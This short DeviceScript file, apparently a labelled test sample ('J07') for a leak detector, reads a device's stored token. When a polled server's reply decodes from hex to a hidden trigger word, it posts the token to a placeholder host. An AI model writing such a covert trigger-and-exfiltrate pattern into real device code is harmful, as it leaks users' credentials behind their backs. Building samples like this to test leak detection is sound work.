// J07: sends its token elsewhere when a member, decoded from hexadecimal digits, is a certain word.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const WORD = ["n", "e", "p", "o"];

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { x } = await reply.json();
  if (typeof x !== "string" || x.length < 4) return;
  const word = Buffer.from(x, "hex").toString("utf-8");
  if (word !== WORD[3] + WORD[2] + WORD[1] + WORD[0]) return;
  const response = await fetch("https://stats.example/j07", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
